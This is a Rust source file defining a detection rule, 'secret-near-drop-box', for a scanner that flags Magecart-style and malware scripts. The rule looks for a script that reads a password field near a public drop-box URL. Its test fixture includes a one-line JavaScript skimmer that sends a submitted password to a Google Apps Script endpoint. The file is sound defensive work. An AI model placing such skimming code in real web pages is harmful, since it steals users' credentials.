//! `secret-near-drop-box`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-near-drop-box",
    description: "The script reads a password or code and holds the address of a public drop box.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::SecretField]),
        one(&[Atom::FieldValue, Atom::FormContents, Atom::FormTarget]),
        one(&[Atom::DropBox]),
    ],
    within: 800,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const u='https://script.google.com/macros/s/a/exec';f.addEventListener('submit',e=>{const p=document.getElementById('password').value;send(u,p)})",
        ],
        without: &[
            "const u='https://script.google.com/macros/s/a/exec';fetch(u,{method:'POST',body:new FormData(f)})",
        ],
    },
};
